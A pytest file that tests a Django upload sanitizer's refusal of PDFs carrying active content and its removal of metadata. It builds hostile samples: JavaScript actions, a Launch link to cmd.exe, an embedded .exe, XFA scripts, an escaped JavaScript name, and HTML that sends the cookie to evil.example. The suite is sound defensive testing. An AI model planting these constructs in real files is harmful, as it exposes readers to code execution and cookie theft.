"""Issue 7 §3: PDFs are parsed with pikepdf, refused when they can run anything, and stored re-saved.

Letters, authorisation letters and approval forms may be PDFs. A PDF that does not
parse (HTML behind a `%PDF-` header included) is refused; so is one with active
content: JavaScript, an OpenAction, additional actions (/AA), Launch, embedded
files, XFA forms, RichMedia. What is stored is pikepdf's re-saved copy, without
the document information and XMP metadata (they name people, as EXIF does).
"""

from __future__ import annotations

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String

from core.pending_uploads import FOLDER as KEPT  # a form's files kept for its next submit (issue 11 §2)
from core.uploads import UploadRejected, sanitize_upload


def _pdf(build=None) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    if build is not None:
        build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _js(code: str = "app.alert('owned')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _open_action_js(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(_js())


def _names_javascript(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())])))


def _page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=_js())


def _launch_link(pdf):
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a letter")


def _xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def _field_script(pdf):
    field = Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=_js("event.value = 1")))
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.make_indirect(field)]))


def _rich_media(pdf):
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 10, 10]),
        RichMediaContent=Dictionary(Assets=Dictionary()),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _obfuscated_name(pdf):
    # "/J#61vaScript" is /JavaScript with an escaped letter: the parser sees through it.
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name("/J#61vaScript"), JS=String("1")))


ACTIVE = {
    "open_action_javascript": _open_action_js,
    "names_javascript": _names_javascript,
    "page_additional_action": _page_aa,
    "launch": _launch_link,
    "embedded_file": _embedded_file,
    "xfa": _xfa_form,
    "acroform_field_script": _field_script,
    "rich_media": _rich_media,
    "escaped_name": _obfuscated_name,
}


@pytest.mark.parametrize("build", ACTIVE.values(), ids=ACTIVE.keys())
def test_7_3_pdf_with_active_content_is_refused(build):
    """Issue 7 §3: JavaScript, OpenAction, AA, Launch, embedded files, XFA/AcroForm scripts, RichMedia."""
    data = _pdf(build)
    with pytest.raises(UploadRejected) as refused:
        sanitize_upload(SimpleUploadedFile("letter.pdf", data), allow_pdf=True)
    assert refused.value.code == "active_content"
    assert "active content" in str(refused.value.message)


def test_7_3_html_behind_a_pdf_header_is_refused():
    html = (
        b"%PDF-1.7\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
        b"</body></html>\n%%EOF\n"
    )
    with pytest.raises(UploadRejected) as refused:
        sanitize_upload(SimpleUploadedFile("letter.pdf", html), allow_pdf=True)
    assert refused.value.code == "corrupt"


def test_7_3_html_renamed_pdf_is_refused():
    html = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
    with pytest.raises(UploadRejected) as refused:
        sanitize_upload(SimpleUploadedFile("letter.pdf", html, content_type="application/pdf"), allow_pdf=True)
    assert refused.value.code == "unsupported_type"


def test_7_3_truncated_pdf_is_refused():
    data = _pdf()
    with pytest.raises(UploadRejected) as refused:
        sanitize_upload(data[: len(data) // 2] + b"\n%%EOF\n", allow_pdf=True)
    assert refused.value.code == "corrupt"


def test_7_3_password_protected_pdf_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    with pytest.raises(UploadRejected) as refused:
        sanitize_upload(out.getvalue(), allow_pdf=True)
    assert refused.value.code == "encrypted"


def test_7_3_plain_pdf_is_accepted_and_stored_re_saved_without_metadata():
    def with_metadata(pdf):
        pdf.docinfo["/Author"] = "张三 110105199001011234"
        pdf.docinfo["/Title"] = "单位介绍信"

    original = _pdf(with_metadata)
    result = sanitize_upload(SimpleUploadedFile("letter.pdf", original), allow_pdf=True)
    assert result.content_type == "application/pdf" and result.extension == ".pdf"
    assert result.content.startswith(b"%PDF-")
    assert result.content != original
    with pikepdf.open(io.BytesIO(result.content)) as stored:
        assert len(stored.pages) == 1
        assert "/Info" not in stored.trailer or "/Author" not in stored.trailer.Info
    assert "张三".encode("utf-16-be") not in result.content and b"110105199001011234" not in result.content


def test_7_3_html_after_the_end_of_a_good_pdf_is_dropped():
    """A polyglot (a PDF with a page of HTML after it): only what the PDF parser read is stored."""
    tail = b"\n<html><script>alert(document.cookie)</script></html>\n%%EOF\n"
    result = sanitize_upload(_pdf() + tail, allow_pdf=True)
    assert b"<script" not in result.content and b"<html" not in result.content


def test_7_3_a_pdf_without_pages_is_refused():
    pdf = pikepdf.new()
    out = io.BytesIO()
    pdf.save(out)
    with pytest.raises(UploadRejected) as refused:
        sanitize_upload(out.getvalue(), allow_pdf=True)
    assert refused.value.code == "corrupt"


@pytest.mark.django_db
def test_7_3_api_refuses_a_letter_with_javascript(world):
    """Through the enterprise API: a clear 400 on the field, nothing stored."""
    from pathlib import Path

    from django.conf import settings
    from rest_framework.test import APIClient

    from tests import idgen

    api = APIClient()
    api.force_authenticate(world["users"]["account_manager"])
    before = {p for p in Path(settings.PRIVATE_MEDIA_ROOT).rglob("*") if p.is_file() and KEPT not in p.parts}
    response = api.post(
        "/api/v1/enterprises/",
        {
            "name": "北京市某某局",
            "unit_kind": "party_government",
            "credential_type": "official_letter",
            "credential_number": "",
            "credential_address": "北京市东城区1号",
            "credential_files": [SimpleUploadedFile("公函.pdf", _pdf(_open_action_js), content_type="application/pdf")],
            "responsible_name": "李四",
            "responsible_id_type": "resident_id",
            "responsible_id_number": idgen.resident_id(),
            "responsible_id_address": "北京市东城区2号",
            "responsible_is_legal_representative": True,
            "responsible_id_files": [SimpleUploadedFile("id.jpg", _jpeg())],
        },
        format="multipart",
    )
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "active_content" and body["field"] == "credential_files"
    assert {p for p in Path(settings.PRIVATE_MEDIA_ROOT).rglob("*") if p.is_file() and KEPT not in p.parts} == before


def _jpeg() -> bytes:
    from tests.images import jpeg_bytes

    return jpeg_bytes()
